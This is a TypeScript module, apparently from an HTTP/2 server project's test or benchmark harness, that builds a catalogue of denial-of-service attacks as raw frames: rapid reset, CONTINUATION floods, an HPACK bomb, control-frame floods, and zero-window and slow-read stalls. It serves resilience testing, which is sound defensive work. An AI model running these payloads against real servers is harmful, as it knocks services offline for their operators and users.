// Peers that use what HTTP/2 allows to cost a server more than they spend. Each keeps at it, on new connections when it
// is thrown out, until it is told to stop.

import { FrameFlag, FrameType } from "../../../../src/protocol/h2/frames/frame.ts";
import { MAGIC } from "../../../../src/protocol/h2/connection/preface.ts";
import { BULK_PATH } from "../../../bench/contenders/nginx_backend.ts";
import { literals } from "../blocks.ts";
import { requestBlock } from "./blocks.ts";
import {
  data,
  frame,
  join,
  ping,
  priorityUpdate,
  reset,
  settings,
  SETTINGS_ACK,
  uint32,
  windowUpdate,
} from "../frames.ts";

const INITIAL_WINDOW = 0x4;
const STREAMS = 100;
const CANCEL = 0x8;

/** One connection of a peer that means harm. */
export interface Attack {
  /** What it sends first, behind the magic: its settings and what follows them. */
  begin(): Uint8Array[];
  /** What it sends then, again and again: `round` counts from 0. Null when it only waits. */
  next(round: number): Uint8Array | null;
  /** Whether it reads what it is sent. */
  readonly reads: boolean;
  /** Milliseconds between two writes; as fast as they are taken, unless told. */
  readonly everyMs?: number;
}

const GET = requestBlock("GET", "/");
const GET_LARGE = requestBlock("GET", BULK_PATH);
const POST = requestBlock("POST", "/");
const WHOLE = FrameFlag.END_HEADERS | FrameFlag.END_STREAM;

const head = (stream: number, block: Uint8Array, flags: number = WHOLE) =>
  frame(FrameType.HEADERS, flags, stream, block);

/** The odd id of the `index`th stream. */
const id = (index: number) => 2 * index + 1;

function times(count: number, make: (index: number) => Uint8Array): Uint8Array {
  return join(...Array.from({ length: count }, (_, index) => make(index)));
}

const requests = (block: Uint8Array) => times(STREAMS, (index) => head(id(index), block));

/** A field of 4,000 bytes that goes into the table, and then a thousand references to it. */
const BOMB_FIELD = literals([["x-bomb", "b".repeat(3_900)]], true);
const BOMB = new Uint8Array(16_000).fill(0x80 | 62);
BOMB.set(GET);

const CONTINUATIONS = times(200, () => frame(FrameType.CONTINUATION, 0, 1, literals([["a", "b"]])));
const EMPTY_CONTINUATIONS = times(500, () => frame(FrameType.CONTINUATION, 0, 1));
const PINGS = times(500, () => ping());
const SETTINGS = times(200, () => settings([INITIAL_WINDOW, 65_535], [0x1, 0], [0x1, 4_096]));
const EMPTY_DATA = times(500, () => data(1, 0));
const PRIORITIES = times(
  500,
  (index) => frame(FrameType.PRIORITY, 0, id(index), [...uint32(id(index + 1)), 200]),
);
const UPDATES = times(300, (index) => priorityUpdate(id(index), `u=${index % 8}, i`));
const DRIPS = times(STREAMS, (index) => windowUpdate(id(index), 1));

const quiet = (begin: () => Uint8Array[], more: Partial<Attack> = {}): Attack => ({
  begin,
  next: () => ping(),
  reads: true,
  everyMs: 200,
  ...more,
});

const flood = (
  next: (round: number) => Uint8Array,
  begin: Uint8Array[] = [],
  reads = true,
): Attack => ({
  begin: () => [settings(), ...begin],
  next,
  reads,
});

const PAIRS = 200;

/** Every attack by its name. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  "rapid reset": flood((round) =>
    times(PAIRS, (index) => {
      const stream = id(round * PAIRS + index);
      return join(head(stream, GET), reset(stream, CANCEL));
    })
  ),
  "made you reset": flood((round) =>
    times(PAIRS, (index) => {
      const stream = id(round * PAIRS + index);
      return join(head(stream, POST, FrameFlag.END_HEADERS), windowUpdate(stream, 0));
    })
  ),
  "a flood of CONTINUATION": flood(() => CONTINUATIONS, [head(1, GET, 0)]),
  "a flood of empty CONTINUATION": flood(() => EMPTY_CONTINUATIONS, [head(1, GET, 0)]),
  "an HPACK bomb": flood(
    (round) => times(20, (index) => head(id(1 + round * 20 + index), BOMB)),
    [head(1, join(GET, BOMB_FIELD))],
  ),
  "a flood of SETTINGS": flood(() => SETTINGS),
  "a flood of SETTINGS, unread": flood(() => SETTINGS, [], false),
  "a flood of PING": flood(() => PINGS),
  "a flood of PING, unread": flood(() => PINGS, [], false),
  "a flood of empty DATA": flood(() => EMPTY_DATA, [head(1, POST, FrameFlag.END_HEADERS)]),
  "a flood of PRIORITY": flood(() => PRIORITIES),
  "a flood of PRIORITY_UPDATE": flood(() => UPDATES),
  "windows that stay shut": quiet(() => [settings([INITIAL_WINDOW, 0]), requests(GET_LARGE)]),
  "windows that open byte by byte": quiet(
    () => [settings([INITIAL_WINDOW, 0]), requests(GET_LARGE)],
    { next: () => DRIPS, everyMs: 2 },
  ),
  "a hundred streams read slowly": quiet(
    () => [
      settings([INITIAL_WINDOW, 0x7fffffff]),
      windowUpdate(0, 0x7fff0000),
      requests(GET_LARGE),
    ],
    { reads: false, next: () => null },
  ),
};

/** What every attack begins with. */
export function opening(attack: Attack): Uint8Array {
  return join(MAGIC, ...attack.begin(), SETTINGS_ACK);
}
